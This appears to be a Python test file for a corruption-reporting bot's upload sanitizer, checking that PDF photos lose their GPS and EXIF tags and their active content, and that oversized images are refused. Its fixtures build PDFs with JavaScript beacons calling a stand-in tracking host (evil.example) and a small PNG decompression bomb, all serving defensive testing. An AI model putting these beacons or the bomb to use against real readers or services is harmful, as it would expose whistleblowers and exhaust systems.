"""A corruption reporter stays unlinkable: a PDF's embedded photo loses its GPS and camera tags like a photo
does, a PDF's active content goes, and a picture too large to decode safely is refused before it costs memory."""
from __future__ import annotations

import io
import json
import os
import struct
import subprocess
import sys
import zlib
from pathlib import Path

from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)
from sqlalchemy import select

from bot.complaints import sanitize, service
from bot.complaints.models import Evidence
from tests.complaint_helpers import Person, code_in, said
from tests.console_helpers import console_app, signed_in  # noqa: F401 (fixtures)
from tests.fakes.platform import Response
from tests.test_reporter_protection import DETAILS, MAKE, MODEL, OWNER, gps_jpeg

ROOT = Path(__file__).resolve().parent.parent
GPS_TEXT = (b"GPS", b"Exif", MAKE.encode(), MODEL.encode(), OWNER.encode())
EVIL = "https://evil.example/track"


def name(n: str) -> NameObject:
    return NameObject(n)


def javascript(code: str) -> DictionaryObject:
    return DictionaryObject({name("/S"): name("/JavaScript"), name("/JS"): TextStringObject(code)})


def pdf_with_photo(jpeg: bytes, colorspace: str = "/DeviceRGB", encoding: str = "/DCTDecode") -> bytes:
    """A one-page PDF whose picture is the camera's JPEG as it was (EXIF included), as scanners and phone
    apps write them, with an open action, a JavaScript name tree, an attachment, a page action and a link."""
    writer = PdfWriter()
    page = writer.add_blank_page(200, 200)
    with Image.open(io.BytesIO(jpeg)) as img:
        width, height = img.size
    photo = StreamObject()
    photo.update({name("/Type"): name("/XObject"), name("/Subtype"): name("/Image"),
                  name("/Width"): NumberObject(width), name("/Height"): NumberObject(height),
                  name("/ColorSpace"): name(colorspace), name("/BitsPerComponent"): NumberObject(8),
                  name("/Filter"): name(encoding)})
    photo._data = jpeg  # the JPEG file as the camera wrote it: a DCTDecode stream is the file itself
    page[name("/Resources")] = DictionaryObject(
        {name("/XObject"): DictionaryObject({name("/Im0"): writer._add_object(photo)})})
    contents = DecodedStreamObject()
    contents.set_data(b"q 150 0 0 150 25 25 cm /Im0 Do Q")
    page[name("/Contents")] = writer._add_object(contents)
    page[name("/AA")] = DictionaryObject({name("/O"): javascript("app.launchURL('" + EVIL + "?opened')")})
    writer._root_object[name("/OpenAction")] = javascript("app.launchURL('" + EVIL + "?' + this.path)")
    writer._root_object[name("/Names")] = DictionaryObject({name("/JavaScript"): DictionaryObject(
        {name("/Names"): ArrayObject([TextStringObject("beacon"), writer._add_object(javascript("app.alert(1)"))])})})
    writer.add_attachment("where.txt", f"{MAKE} {MODEL} 16.44N 100.35E".encode())
    writer.add_annotation(0, Link(rect=(0, 0, 100, 100), url=EVIL))
    out = io.BytesIO()
    writer.write(out)
    data = out.getvalue()
    assert MAKE.encode() in data and b"/OpenAction" in data and b"/Annots" in data  # the fixture is real
    return data


def every_stream(reader: PdfReader) -> bytes:
    """All streams of the file, decompressed (a JPEG stays the JPEG file it is)."""
    parts = []
    for number in range(1, int(reader.trailer["/Size"])):
        obj = reader.get_object(number)
        if isinstance(obj, StreamObject):
            parts.append(obj.get_data())
    return b"".join(parts)


def send_pdf(bot, line_api, user: str, data: bytes) -> Person:
    line_api.script("GET", rf"^/v2/bot/message/{user}-pdf/content$", Response(200, data, "application/pdf"))
    p = Person(bot, user)
    p.says("แจ้งทุจริต")
    p.says(DETAILS)
    p.says("เสร็จแล้ว")
    assert "1/5" in said(p.sends_image(f"{user}-pdf", kind="file", mime="application/pdf"))
    return p


def test_a_pdfs_photo_is_re_encoded_without_gps_and_its_active_content_is_gone(bot, services, line_api):
    send_pdf(bot, line_api, "U-pdf-photo", pdf_with_photo(gps_jpeg()))
    with services.db.session() as s:
        [ev] = s.scalars(select(Evidence)).all()
    stored = (Path(services.settings.evidence_dir) / ev.path).read_bytes()
    reader = PdfReader(io.BytesIO(stored))
    everything = stored + every_stream(reader)
    for tag in GPS_TEXT:
        assert tag not in everything, tag
    for active in (b"/JavaScript", b"/JS", b"/OpenAction", b"/AA", b"/Annots", b"/EmbeddedFiles", b"/URI",
                   b"evil.example", b"where.txt"):
        assert active not in everything, active
    [page] = reader.pages
    [image] = page.images
    assert image.image.size == (8, 8) and "exif" not in image.image.info
    assert not image.image.getexif()
    assert not ev.may_carry_metadata


def test_a_pdfs_jpeg_2000_loses_its_boxes(services):
    out = io.BytesIO()
    Image.new("RGB", (16, 16), (10, 200, 30)).save(out, "JPEG2000")
    geo = f"<gml:Point><gml:pos>16.44 100.35</gml:pos></gml:Point><camera>{MAKE} {MODEL}</camera>".encode()
    jp2 = out.getvalue() + struct.pack(">I", 8 + len(geo)) + b"xml " + geo  # a GeoJP2/GML box, as GIS tools add
    cleaned = sanitize.clean(pdf_with_photo(jp2, encoding="/JPXDecode"), "application/pdf")
    reader = PdfReader(io.BytesIO(cleaned.data))
    assert b"16.44" not in cleaned.data + every_stream(reader) and MAKE.encode() not in cleaned.data
    [image] = reader.pages[0].images
    assert image.image.size == (16, 16) and image.image.getpixel((3, 3)) == (10, 200, 30)
    assert not cleaned.may_carry_metadata


def test_a_pdf_photo_that_cannot_be_re_encoded_is_kept_flagged_and_the_console_warns(console_app, bot, services,
                                                                                    line_api):
    out = io.BytesIO()
    Image.new("CMYK", (8, 8), (0, 80, 80, 10)).save(out, "JPEG", exif=Image.open(io.BytesIO(gps_jpeg())).getexif())
    p = send_pdf(bot, line_api, "U-pdf-cmyk", pdf_with_photo(out.getvalue(), "/DeviceCMYK"))
    p.says("เสร็จแล้ว")
    p.says("ไม่ระบุตัวตน")
    code = code_in(p.says("ยืนยันส่งเรื่อง"))
    with services.db.session() as s:
        [pdf] = service.staff_view(services, service.load(s, code), full=True)["evidence"]
    assert pdf["may_carry_metadata"]
    stored = Path(pdf["file"]).read_bytes()
    assert b"/OpenAction" not in stored and b"/Annots" not in stored  # what could be cleaned still is
    page = signed_in(console_app, "integrity").get(f"/console/complaints/{code}").get_data(as_text=True)
    assert "ไฟล์นี้อาจมีข้อมูลแฝง" in page


def test_a_pdf_with_a_jpeg_inline_in_its_page_is_flagged(services):
    writer = PdfWriter()
    page = writer.add_blank_page(100, 100)
    contents = DecodedStreamObject()
    contents.set_data(b"q 50 0 0 50 0 0 cm BI /W 8 /H 8 /CS /RGB /BPC 8 /F /DCT ID " + gps_jpeg() + b" EI Q")
    page[name("/Contents")] = writer._add_object(contents)
    out = io.BytesIO()
    writer.write(out)
    assert sanitize.clean(out.getvalue(), "application/pdf").may_carry_metadata


# --- memory ---------------------------------------------------------------------------------------------
def png_declaring(width: int, height: int) -> bytes:
    """A real, complete PNG of `width` x `height` black-and-white pixels: a few hundred KB on the wire."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    row = b"\x00" + b"\x00" * ((width + 7) // 8)
    packer = zlib.compressobj(9)
    pixels = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
            + chunk(b"IDAT", pixels) + chunk(b"IEND", b""))


CHILD = """
import io, json, re, sys
from PIL import Image
from bot.complaints import sanitize
from tests.fakes.platform import tiny_jpeg, tiny_png
sanitize.clean(tiny_png(), "image/png"), sanitize.clean(tiny_jpeg(), "image/jpeg")  # plugins loaded
data = open(sys.argv[1], "rb").read()

def kb(field):
    with open("/proc/self/status") as status:
        return int(re.search(field + r":\\s+(\\d+) kB", status.read()).group(1))

with open("/proc/self/clear_refs", "w") as clear:
    clear.write("5")  # the high-water mark (VmHWM) starts again from what is resident now
before = kb("VmRSS")
try:
    kept = Image.open(io.BytesIO(sanitize.clean(data, sys.argv[2]).data)).size
except sanitize.TooManyPixels:
    kept = "refused"
print(json.dumps({"kept": kept, "peak_growth_mb": (kb("VmHWM") - before) / 1024}))
"""


def clean_in_a_fresh_process(tmp_path: Path, data: bytes, mime: str) -> dict:
    """Pillow's pixel buffers are C allocations tracemalloc never sees, so the peak is the high-water mark
    of a child process's resident memory (Linux's VmHWM, reset first) over what it held before cleaning."""
    path = tmp_path / "evidence.bin"
    path.write_bytes(data)
    done = subprocess.run([sys.executable, "-c", CHILD, str(path), mime], cwd=ROOT, capture_output=True,
                          text=True, env={**os.environ, "PYTHONPATH": str(ROOT)}, check=True)
    return json.loads(done.stdout.strip().splitlines()[-1])


def test_a_small_png_declaring_a_huge_picture_is_refused_before_it_costs_memory(tmp_path, bot, services,
                                                                                line_api):
    bomb = png_declaring(7000, 7000)  # 49 million pixels in 7 KB: under the old cap of 60 million
    assert len(bomb) < 300_000
    result = clean_in_a_fresh_process(tmp_path, bomb, "image/png")
    assert result["kept"] == "refused" and result["peak_growth_mb"] < 100, result

    line_api.script("GET", r"^/v2/bot/message/bomb-1/content$", Response(200, bomb, "image/png"))
    p = Person(bot, "U-bomb")
    p.says("แจ้งทุจริต")
    p.says(DETAILS)
    p.says("เสร็จแล้ว")
    answer = said(p.sends_image("bomb-1"))
    assert "ความละเอียดสูงเกินกว่าที่ระบบรับได้" in answer and "ย่อขนาดรูป" in answer
    with services.db.session() as s:
        assert s.scalars(select(Evidence)).all() == []
    assert not list(Path(services.settings.evidence_dir).glob("*/*"))


def test_a_48_megapixel_phone_photo_is_decoded_at_half_size_and_kept_at_4000_pixels(tmp_path):
    picture = Image.new("L", (8000, 6000), 90)
    picture.paste(200, (1000, 1000, 7000, 5000))
    out = io.BytesIO()
    picture.save(out, "JPEG", quality=60)
    del picture
    result = clean_in_a_fresh_process(tmp_path, out.getvalue(), "image/jpeg")
    assert result["kept"] == [4000, 3000] and result["peak_growth_mb"] < 100, result
